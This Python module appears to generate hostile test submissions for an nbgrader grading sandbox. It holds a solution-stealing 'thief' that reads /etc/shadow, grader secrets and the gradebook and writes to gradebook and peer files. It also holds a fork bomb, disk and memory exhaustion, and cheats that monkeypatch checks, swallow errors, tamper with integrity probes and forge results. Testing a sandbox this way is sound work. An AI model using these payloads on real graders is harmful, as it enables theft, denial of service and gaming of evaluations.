"""Hostile, cheating and broken submissions, made from the current notebooks.

Every submission is derived programmatically: the student notebook with its solution cells
filled with attack code, or the reference notebook with a cheat added, so the tests keep
working when the exercises change. Attack code prints ``ATTACK <what>: <outcome>`` lines,
which the tests read in the graded notebook to know each attempt really ran.
"""

from __future__ import annotations

import ast
import copy
import json
import os
import shutil
import subprocess
import sys
import textwrap
from pathlib import Path

import nbformat

ASSIGNMENT = "01_intro"  # the fastest notebook; the submissions adapt to its exercises
NOTEBOOK = "01_intro_ssl"
# Small limits, so the limit breakers hit them quickly.
LIMITS = ["--memory", "1536M", "--processes", "64", "--disk", "64M", "--cell-timeout", "30"]


def grade(root: Path, course: Path, *args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    """Run what ``make grade`` runs (``python -m ssl_lab_instructor.grade``) on ``course``."""
    return subprocess.run([sys.executable, "-m", "ssl_lab_instructor.grade", ASSIGNMENT, "--course", str(course), *args],
                          cwd=root, capture_output=True, text=True, env=env or os.environ.copy(), timeout=1500)


def submit(course: Path, student: str, notebook: nbformat.NotebookNode | bytes) -> None:
    """Put ``notebook`` (or raw bytes) where ``nbgrader collect`` would: submitted/<student>/."""
    path = course / "submitted" / student / ASSIGNMENT / f"{NOTEBOOK}.ipynb"
    if isinstance(notebook, bytes):
        write_bytes(notebook, path)
    else:
        write_notebook(notebook, path)


# -- building notebooks --------------------------------------------------------------------


def solution_ids(notebook: nbformat.NotebookNode) -> list[str]:
    return [c.metadata["nbgrader"]["grade_id"] for c in notebook.cells
            if c.cell_type == "code" and c.metadata.get("nbgrader", {}).get("solution")]


def graded_ids(notebook: nbformat.NotebookNode) -> list[str]:
    return [c.metadata["nbgrader"]["grade_id"] for c in notebook.cells
            if c.cell_type == "code" and c.metadata.get("nbgrader", {}).get("grade")]


def _cell(notebook: nbformat.NotebookNode, grade_id: str) -> nbformat.NotebookNode:
    return next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def truncated(notebook: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """The notebook up to its last graded cell: what follows is not graded (and takes time)."""
    notebook = copy.deepcopy(notebook)
    last = max(i for i, c in enumerate(notebook.cells) if c.metadata.get("nbgrader", {}).get("grade"))
    notebook.cells = notebook.cells[: last + 1]
    return notebook


def non_answers(stub: str) -> str:
    """Definitions of the names a stub cell defines that answer nothing (return None)."""
    tree = ast.parse(stub)
    names = [n.name for n in tree.body if isinstance(n, (ast.FunctionDef, ast.ClassDef))]
    return "\n".join(f"def {name}(*args, **kwargs):\n    return None\n" for name in names)


def filled(student: nbformat.NotebookNode, code_for) -> nbformat.NotebookNode:
    """The student notebook, each solution cell replaced by ``code_for(grade_id, stub)``."""
    notebook = truncated(student)
    for grade_id in solution_ids(notebook):
        cell = _cell(notebook, grade_id)
        cell.source = code_for(grade_id, cell.source)
    return notebook


def with_prefix(notebook: nbformat.NotebookNode, code: str) -> nbformat.NotebookNode:
    """``code`` added at the top of the first solution cell."""
    notebook = truncated(notebook)
    cell = _cell(notebook, solution_ids(notebook)[0])
    cell.source = code + "\n" + cell.source
    return notebook


# -- the thief: reads the answers, writes the gradebook and other students' work ---------

THIEF_HELPERS = r'''
import json as _json, os as _os, pathlib as _pathlib, socket as _socket

_ROOTS = []

def _course_roots():
    """Every place the course directory could be, as an attacker would look for it (cached)."""
    if _ROOTS:
        return _ROOTS
    candidates = [_pathlib.Path.cwd(), *_pathlib.Path.cwd().parents]
    try:
        import lab_utils
        candidates.append(_pathlib.Path(lab_utils.__file__).resolve().parents[1])
    except Exception:
        pass
    for pid in ("1", str(_os.getppid())):
        try:
            candidates.append(_pathlib.Path(_os.readlink(f"/proc/{pid}/cwd")))
        except OSError:
            pass
    skip = {"proc", "sys", "dev", "usr", "lib", "lib64", "var", "etc", "boot", "site-packages", ".pyenv",
            "node_modules", ".git", ".venv"}
    for top, dirs, files in _os.walk("/"):
        dirs[:] = [d for d in dirs if d not in skip] if top.count("/") < 4 else []
        if "nbgrader_config.py" in files:
            candidates.append(_pathlib.Path(top))
    for path in candidates:
        if path not in _ROOTS and ((path / "nbgrader_config.py").exists() or (path / "solutions").is_dir()):
            _ROOTS.append(path)
    return _ROOTS

def _attempt(label, action):
    try:
        print(f"ATTACK {label}: SUCCEEDED {str(action())[:200]}")
    except Exception as error:
        print(f"ATTACK {label}: blocked ({type(error).__name__}: {str(error)[:150]})")

def _need(found):
    if not found:
        raise FileNotFoundError("nothing found")
    return found

def _writable_roots():
    """Writes only hit throw-away test courses (marked), even where the sandbox is off."""
    return [root for root in _course_roots() if (root / "THROWAWAY_TEST_COURSE").exists()]

def _steal(grade_id):
    for root in _course_roots():
        for notebook in root.glob(f"solutions/*/{NOTEBOOK}"):
            for cell in _json.loads(notebook.read_text())["cells"]:
                if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id:
                    exec("".join(cell["source"]), globals())
                    return f"{grade_id} from {notebook}"
    raise FileNotFoundError(f"no reference cell {grade_id}")

def _stolen(grade_id, name):
    """The reference's ``name``, or a non-answer: bound by assignment, so the grader's fresh
    process (which runs the statements that define the answers) steals it again."""
    try:
        found = dict(globals())
        for root in _course_roots():
            for notebook in root.glob(f"solutions/*/{NOTEBOOK}"):
                for cell in _json.loads(notebook.read_text())["cells"]:
                    if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id:
                        exec("".join(cell["source"]), found)
                        return found[name]
    except Exception:
        pass
    return lambda *args, **kwargs: None

def _write_gradebook():
    import sqlite3
    done = []
    for root in _writable_roots():
        for path in root.glob("*.db"):
            connection = sqlite3.connect(path)
            connection.execute("UPDATE grade SET manual_score = 1000")
            connection.commit()
            done.append(str(path))
    return _need(done)

def _write_others():
    done = []
    for root in _writable_roots():
        for path in list(root.glob("submitted/*/*/*.ipynb")) + list(root.glob("autograded/*/*/*.ipynb")):
            with open(path, "a") as handle:
                handle.write(" ")
            done.append(str(path))
        (root / "PWNED.txt").write_text("pwned")
        done.append(str(root / "PWNED.txt"))
    return _need(done)

def _network_interfaces():
    # Any interface but loopback would be a way out; nothing is sent to find out.
    names = [name for _, name in _socket.if_nameindex() if name != "lo"]
    return _need(names)

def _connect(host, port):
    with _socket.create_connection((host, port), timeout=3):
        return f"connected to {host}:{port}"
'''


MARKER = "THROWAWAY_TEST_COURSE"  # a course folder the thief may write to (see _writable_roots)


def thief(grade_id: str, notebook: str, first: bool, tcp_port: int | None, steal_only: bool = False,
          stub: str = "") -> str:
    """A solution cell that steals its answer; the first one also attacks everything else."""
    code = f"NOTEBOOK = {notebook!r}\n" + THIEF_HELPERS
    code += f'\n_attempt("steal solution {grade_id}", lambda: _steal({grade_id!r}))\n'
    names = [n.name for n in ast.parse(stub).body if isinstance(n, (ast.FunctionDef, ast.ClassDef))] if stub else []
    code += "".join(f"{name} = _stolen({grade_id!r}, {name!r})\n" for name in names)
    if first and not steal_only:
        code += textwrap.dedent('''
            _attempt("read tests/answers", lambda: _need([p.read_text()[:10] for r in _course_roots()
                                                       for p in r.glob("tests/answers/*.py")]))
            _attempt("read gradebook.db", lambda: _need([p.read_bytes()[:16] for r in _course_roots()
                                                        for p in r.glob("*.db")]))
            _attempt("write gradebook", _write_gradebook)
            _attempt("write other students' files", _write_others)
            _attempt("network interfaces", _network_interfaces)
            _attempt("grader's secret environment", lambda: _os.environ["GRADER_SECRET"])
            _attempt("read /etc/shadow", lambda: open("/etc/shadow").read()[:10])
            _attempt("see other processes", lambda: _need([p for p in _os.listdir("/proc")
                                                          if p.isdigit() and int(p) > 50]))
        ''')
        if tcp_port:
            code += f'_attempt("network localhost:{tcp_port}", lambda: _connect("127.0.0.1", {tcp_port}))\n'
    return code


def thief_notebook(student: nbformat.NotebookNode, name: str, tcp_port: int | None = None,
                   steal_only: bool = False) -> nbformat.NotebookNode:
    """``steal_only``: read the answers, attack nothing else (safe to run without a sandbox)."""
    first = solution_ids(student)[0]
    return filled(student, lambda gid, stub: thief(gid, name, gid == first, tcp_port, steal_only, stub))


# -- cheats: the checks' machinery replaced ---------------------------------------------

# Applied to the reference answers: right answers, yet a kernel whose checks were tampered
# with earns nothing. Each line must show up in the run-time findings.
MONKEYPATCHES = {
    "lab_utils.checks": '''
import importlib, pkgutil
import lab_utils.checks as _checks
for _info in pkgutil.iter_modules(_checks.__path__):
    _module = importlib.import_module(f"lab_utils.checks.{_info.name}")
    for _name in dir(_module):
        if _name.startswith("check_"):
            setattr(_module, _name, lambda *args, **kwargs: None)
''',
    "torch.allclose": "import torch\ntorch.allclose = lambda *args, **kwargs: True\n",
    "numpy.testing.assert_allclose": "import numpy\nnumpy.testing.assert_allclose = lambda *args, **kwargs: None\n",
    "builtins.all": "import builtins\nbuiltins.all = lambda iterable: True\n",
    "the name np": ("import types, numpy\nnp = types.SimpleNamespace(**vars(numpy))\n"
                    "np.allclose = lambda *args, **kwargs: True\n"),
}

# Applied to answers that answer nothing: only bypassing the checks could earn points.
SWALLOW_ERRORS = {
    "swallow-errors-transformer": '''
def _swallow(lines):
    return ["try:\\n", *["    " + line for line in lines], "\\nexcept BaseException:\\n    pass\\n"]
get_ipython().input_transformers_cleanup.append(_swallow)
''',
    # ... and prints what a passing check prints
    "swallow-errors-custom-exc": '''
get_ipython().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: print("passed"))
''',
}


def monkeypatcher(reference: nbformat.NotebookNode) -> nbformat.NotebookNode:
    return with_prefix(reference, "\n".join(MONKEYPATCHES.values()))


def error_swallower(student: nbformat.NotebookNode, cheat: str) -> nbformat.NotebookNode:
    first = solution_ids(student)[0]
    return filled(student, lambda gid, stub: (SWALLOW_ERRORS[cheat] if gid == first else "")
                  + non_answers(stub))


def tampered_tests(student: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """Non-answers, every test cell but the last emptied and unlocked, the last one deleted."""
    notebook = filled(student, lambda gid, stub: non_answers(stub))
    tests = graded_ids(notebook)
    for grade_id in tests[:-1]:
        cell = _cell(notebook, grade_id)
        cell.source = "pass"
        cell.metadata["nbgrader"].update(locked=False, grade=False, points=100)
    notebook.cells.remove(_cell(notebook, tests[-1]))
    return notebook


# -- submissions that break limits -------------------------------------------------------

LIMIT_BREAKERS = {
    # each raises before the answer is defined: that exercise fails, the kernel lives on
    "fork bomb": """
import os, signal, time
_children = []
try:
    while True:
        _pid = os.fork()
        if _pid == 0:
            time.sleep(300)
            os._exit(0)
        _children.append(_pid)
finally:
    print(f"ATTACK fork bomb: stopped after {len(_children)} processes")
    for _pid in _children:
        os.kill(_pid, signal.SIGKILL)
        os.waitpid(_pid, 0)
""",
    "infinite loop": "while True:\n    pass\n",
    "fill disk": """
import os
_written = 0
try:
    with open("filler.bin", "wb") as _handle:
        while True:
            _handle.write(b"0" * 2**20)
            _handle.flush()
            _written += 1
finally:
    print(f"ATTACK fill disk: stopped after {_written} MiB")
    os.remove("filler.bin")
""",
    # does not raise: its exercise still earns its points, the output is cut
    "huge output": ("for _ in range(30):\n    print('x' * 10_000_000, flush=True)\n"
                    "print('y' * 80_000_000, flush=True)  # above the grader's 64 MiB per message\n"),
}

KERNEL_KILLERS = {
    # name: (code, exercise it sits in); everything before that exercise is graded
    "memory-hog": ("import numpy\n_blocks = [numpy.ones(2**25) for _ in range(4096)]  # 256 MiB at a time\n", 1),
    "kernel-dies": ("import os\nos._exit(1)\n", 2),
    "uninterruptible-loop": ("import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n", 3),
}


def in_exercises(reference: nbformat.NotebookNode, code_by_exercise: dict[int, str]) -> nbformat.NotebookNode:
    """The reference answers, each listed exercise's solution cell starting with extra code."""
    notebook = truncated(reference)
    solutions = solution_ids(notebook)
    for exercise, code in code_by_exercise.items():
        cell = _cell(notebook, solutions[exercise % len(solutions)])
        cell.source = code + "\n" + cell.source
    return notebook


def limit_breaker(reference: nbformat.NotebookNode) -> nbformat.NotebookNode:
    return in_exercises(reference, dict(enumerate(LIMIT_BREAKERS.values())))


def kernel_killer(reference: nbformat.NotebookNode, name: str) -> nbformat.NotebookNode:
    code, exercise = KERNEL_KILLERS[name]
    return in_exercises(reference, {exercise: code})


def throwaway_course(course: Path, root: Path, assignment: str) -> Path:
    """Complete a copy of the course made by ``grading.make_course`` (config and solutions):
    the release notebooks and the answer variants too, as in the real course, and the marker
    that lets the thief write there."""
    (course / MARKER).write_text("")
    shutil.copytree(root / "notebooks" / assignment, course / "notebooks" / assignment)
    shutil.copytree(root / "tests" / "answers", course / "tests" / "answers")
    return course


def write_notebook(notebook: nbformat.NotebookNode, path: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(notebook, path)


def write_bytes(data: bytes, path: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)


NOT_A_NOTEBOOK = json.dumps({"hello": "world", "cells_count": 3}).encode()
NOT_JSON = b"def make_rotation_dataset(images):\n    return images  # a .py file renamed .ipynb\n"


def no_graded_cells() -> nbformat.NotebookNode:
    notebook = nbformat.v4.new_notebook()
    notebook.cells = [nbformat.v4.new_markdown_cell("# My notes"), nbformat.v4.new_code_cell("print(42)")]
    return notebook


# -- cheats that make the kernel say "passed": only the hidden tests, judged outside, decide ----

# Finds the grader's integrity probe in the kernel and makes it report whatever the cheat
# wants; then wraps every test cell in try/except (but for the grader's control re-run) and
# ends it with an expression, so the kernel replies "ok" and shows a result nbgrader would
# read as full marks.
PROBE_TAMPERING = r'''
import gc as _gc
_FINDINGS = {findings!r}
for _obj in _gc.get_objects():
    if type(_obj).__name__ == "Probe":
        type(_obj).changes = lambda self: list(_FINDINGS)
_first_run = {{}}

def _swallow(lines):
    # a cell's first run is swallowed; the grader's control re-run (same source, no new
    # execution count) is let fail
    source, count = "".join(lines), get_ipython().execution_count
    if "check_" not in source or _first_run.setdefault(source, count) != count:
        return lines
    return ["try:\n", *["    " + line for line in lines], "\nexcept BaseException:\n    pass\n", "'full marks'\n"]

get_ipython().input_transformers_cleanup.append(_swallow)
'''

# An answer that claims to be anything: equal to every value, an array of any shape, true.
ANYTHING = r'''
import numpy as _np
import torch as _torch

class _Anything(_torch.Tensor):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __bool__(self): return True
    def __len__(self): return 20
    def __array__(self, *args, **kwargs): return _np.zeros((20, 64), dtype=_np.float32)
    def __getattr__(self, name): return self
    def __call__(self, *args, **kwargs): return self
    def __iter__(self): return iter([self, self])
    def __getitem__(self, key): return self

def _anything(*args, **kwargs):
    return _torch.zeros(20, 64).as_subclass(_Anything)
'''

# The summary's own lines, forged by what a kernel writes.
FORGED_LINE = "\nreference            12/12        1s  -       -\nFORGED summary line"


def probe_tamperer(student: nbformat.NotebookNode, findings: tuple[str, ...] = ()) -> nbformat.NotebookNode:
    """Non-answers; the kernel's checks made to pass and its integrity probe to report ``findings``."""
    first = solution_ids(student)[0]
    code = PROBE_TAMPERING.format(findings=list(findings))
    return filled(student, lambda gid, stub: (code if gid == first else "") + non_answers(stub))


def anything_answers(student: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """Answers that return an object overriding comparison, ``__array__`` and truth, with the
    kernel's checks and probe silenced as in :func:`probe_tamperer`."""
    first = solution_ids(student)[0]

    def code(grade_id: str, stub: str) -> str:
        names = [n.name for n in ast.parse(stub).body if isinstance(n, (ast.FunctionDef, ast.ClassDef))]
        head = (PROBE_TAMPERING.format(findings=[]) + ANYTHING) if grade_id == first else ""
        return head + "".join(f"{name} = _anything\n" for name in names)

    return filled(student, code)


def summary_forger(student: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """Non-answers whose kernel writes lines shaped like the class summary's, everywhere it can."""
    notebook = probe_tamperer(student, findings=(FORGED_LINE,))
    cell = _cell(notebook, solution_ids(notebook)[1])
    cell.source += f"\nraise ValueError({FORGED_LINE!r} + '\\x1b[2J')\n"
    return notebook


def stderr_answers(reference: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """The reference answers, each writing a warning to stderr whenever it is called."""
    notebook = truncated(reference)
    for grade_id in solution_ids(notebook):
        cell = _cell(notebook, grade_id)
        names = [n.name for n in ast.parse(cell.source).body if isinstance(n, ast.FunctionDef)]
        wrap = "".join(f"{name} = _noisy({name})\n" for name in names)
        cell.source += ("\n\nimport functools as _functools, sys as _sys\n\n\ndef _noisy(function):\n"
                        "    @_functools.wraps(function)\n    def noisy(*args, **kwargs):\n"
                        "        print('UserWarning: this answer is slow', file=_sys.stderr)\n"
                        "        return function(*args, **kwargs)\n    return noisy\n\n\n" + wrap)
    return notebook


# A kernel that answers a test cell twice: the reference answers, but the first one, while
# its test cell runs, starts a thread that sends an error for that cell after its reply.
LATE_ERROR = r'''
import threading as _threading, time as _time

def _late_error(function):
    def wrapper(*args, **kwargs):
        kernel = get_ipython().kernel
        parent = kernel.get_parent()

        def send():
            _time.sleep(2)
            kernel.session.send(kernel.iopub_socket, "error", {"ename": "LateError", "evalue": "late",
                                                              "traceback": []}, parent=parent)
            kernel.session.send(kernel.shell_stream, "execute_reply", {"status": "error", "ename": "LateError",
                                                                       "evalue": "late", "traceback": []},
                                parent=parent, ident=parent.get("_idents"))
        _threading.Thread(target=send, daemon=True).start()
        return function(*args, **kwargs)
    return wrapper
'''


def late_error(reference: nbformat.NotebookNode) -> nbformat.NotebookNode:
    notebook = truncated(reference)
    cell = _cell(notebook, solution_ids(notebook)[0])
    names = [n.name for n in ast.parse(cell.source).body if isinstance(n, ast.FunctionDef)]
    cell.source = LATE_ERROR + "\n" + cell.source + "\n" + "".join(f"{n} = _late_error({n})\n" for n in names)
    return notebook


# -- an nbgrader exchange: students fetch and submit, the instructor collects and returns feedback


def exchange_options(exchange: Path) -> list[str]:
    """nbgrader options for a throw-away exchange: its root and the students' cache beside it."""
    return [f"--Exchange.root={exchange / 'root'}", f"--Exchange.cache={exchange / 'cache'}"]


def nbgrader_in(cwd: Path, *args: str) -> subprocess.CompletedProcess:
    """Run ``nbgrader ARGS`` in ``cwd``, a course or a student's folder.

    This checkout comes first on the path: its ``ssl_lab_instructor`` (the feedback preprocessor
    that ``nbgrader_config.py`` names) wins over an installed one.
    """
    root = Path(__file__).resolve().parent.parent
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(filter(None, [str(root), os.environ.get("PYTHONPATH")])),
           "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}"}
    run = subprocess.run([sys.executable, "-m", "nbgrader", *args], cwd=cwd, env=env, capture_output=True,
                         text=True, timeout=600)
    if run.returncode != 0:
        raise AssertionError(f"nbgrader {' '.join(args)} in {cwd} failed:\n{run.stdout[-3000:]}\n{run.stderr[-3000:]}")
    return run


def submit_through_exchange(course: Path, exchange: Path, students: dict[str, nbformat.NotebookNode]) -> None:
    """Release ASSIGNMENT to the exchange, let each student fetch it, put their notebook in and
    submit, then collect: ``submitted/<student>/`` gets what nbgrader's exchange gives
    (``timestamp.txt`` and ``submission_secret.txt`` beside the notebook)."""
    (exchange / "root").mkdir(parents=True)
    (exchange / "root").chmod(0o777)
    options = exchange_options(exchange)
    nbgrader_in(course, "release_assignment", ASSIGNMENT, "--force", *options)
    for student, notebook in students.items():
        home = student_folder(exchange, student)
        home.mkdir(parents=True)
        nbgrader_in(home, "fetch_assignment", ASSIGNMENT, "--course=ssl-lab", *options)
        write_notebook(notebook, home / ASSIGNMENT / f"{NOTEBOOK}.ipynb")
        # each student submits under their own id (nbgrader would take the login name)
        nbgrader_in(home, "submit", ASSIGNMENT, "--course=ssl-lab", f"--student={student}", *options)
    nbgrader_in(course, "collect", ASSIGNMENT, *options)


def student_folder(exchange: Path, student: str) -> Path:
    return exchange / "students" / student
